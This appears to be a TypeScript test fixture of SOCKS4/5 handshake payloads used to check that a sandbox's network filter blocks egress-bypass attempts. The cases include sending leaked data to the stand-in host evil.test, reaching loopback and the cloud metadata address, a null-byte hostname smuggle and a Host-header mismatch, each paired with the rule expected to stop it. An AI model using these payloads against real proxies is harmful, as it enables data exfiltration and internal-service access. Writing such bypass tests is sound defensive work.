import type { Attack } from '../attack.ts';
import { numbered } from './steps.ts';

const bytes = (...pieces: readonly string[]): Attack['step'] => ({ kind: 'write', hex: true, pieces: [...pieces, '{LEAK:hex}'] });
const name = (text: string): string => text.length.toString(16).padStart(2, '0') + Buffer.from(text).toString('hex');
const GREETING = '050100';
const HTTP = '0050';

export const socks: readonly Attack[] = numbered('S', 'socks', [
  { what: 'SOCKS5 to another host', step: bytes(GREETING, `05010003${name('evil.test')}${HTTP}`), stopped: 'network.unlisted' },
  { what: 'SOCKS5 to 127.0.0.1', step: bytes(GREETING, `050100017f000001${HTTP}`), stopped: 'network.near' },
  {
    what: 'SOCKS5 to 127.0.0.1, written as a name',
    step: bytes(GREETING, `05010003${name('127.0.0.1')}${HTTP}`),
    stopped: 'network.near',
  },
  {
    what: 'SOCKS5 to a decimal address, written as a name',
    step: bytes(GREETING, `05010003${name('2852039166')}${HTTP}`),
    stopped: 'network.malformed',
  },
  { what: 'SOCKS5 to the metadata service', step: bytes(GREETING, `05010001a9fea9fe${HTTP}`), stopped: 'network.metadata' },
  { what: 'SOCKS5 to ::1', step: bytes(GREETING, `05010004${'1'.padStart(32, '0')}${HTTP}`), stopped: 'network.near' },
  {
    what: 'SOCKS5 to ::ffff:127.0.0.1',
    step: bytes(GREETING, `0501000400000000000000000000ffff7f000001${HTTP}`),
    stopped: 'network.near',
  },
  {
    what: 'SOCKS5 to a name with a zero byte',
    step: bytes(GREETING, `05010003${name('evil.test\0.allowed.test')}${HTTP}`),
    stopped: 'network.malformed',
  },
  { what: 'SOCKS5 to no name', step: bytes(GREETING, `0501000300${HTTP}`), stopped: 'network.malformed' },
  { what: 'SOCKS5 to another port', step: bytes(GREETING, `05010003${name('allowed.test')}0016`), stopped: 'network.unlisted' },
  { what: 'SOCKS5 to port 0', step: bytes(GREETING, `05010003${name('allowed.test')}0000`), stopped: 'network.malformed' },
  { what: 'SOCKS5 UDP ASSOCIATE', step: bytes(GREETING, '05030001000000000000'), stopped: 'network.malformed' },
  { what: 'SOCKS5 BIND', step: bytes(GREETING, `05020001cb007142${HTTP}`), stopped: 'network.malformed' },
  {
    what: 'SOCKS5 RESOLVE (of Tor)',
    step: bytes(GREETING, `05f00003${name('leak-s.evil.test')}0000`),
    stopped: 'network.malformed',
  },
  {
    what: 'SOCKS5 with a password only',
    step: bytes('050102', `0104${'4c45414b'}0470617373`, `050100017f000001${HTTP}`),
    stopped: 'network.malformed',
  },
  { what: 'SOCKS5 without a method', step: bytes('0500', `050100017f000001${HTTP}`), stopped: 'network.malformed' },
  { what: 'SOCKS5, all at once', step: bytes(`${GREETING}05010003${name('evil.test')}${HTTP}`), stopped: 'network.unlisted' },
  {
    what: 'SOCKS5 to the allowed host, Host says evil',
    step: {
      kind: 'write',
      hex: true,
      pieces: [
        GREETING,
        `05010003${name('allowed.test')}${HTTP}`,
        `${Buffer.from('GET /').toString('hex')}{LEAK:hex}${Buffer.from(' HTTP/1.1\r\nHost: evil.test\r\n\r\n').toString('hex')}`,
      ],
    },
    stopped: 'network.mismatch',
  },
  { what: 'SOCKS4 to 127.0.0.1', step: bytes(`0401${HTTP}7f00000100`), stopped: 'network.near' },
  { what: 'SOCKS4 to the metadata service', step: bytes(`0401${HTTP}a9fea9fe00`), stopped: 'network.metadata' },
  { what: 'SOCKS4 BIND', step: bytes(`0402${HTTP}cb00714200`), stopped: 'network.malformed' },
  {
    what: 'SOCKS4a to another host',
    step: bytes(`0401${HTTP}0000000100${Buffer.from('evil.test').toString('hex')}00`),
    stopped: 'network.unlisted',
  },
  {
    what: 'SOCKS4a to an address, written as a name',
    step: bytes(`0401${HTTP}0000000100${Buffer.from('127.0.0.1').toString('hex')}00`),
    stopped: 'network.near',
  },
  { what: 'SOCKS6', step: bytes('060100'), stopped: 'network.malformed' },
]);
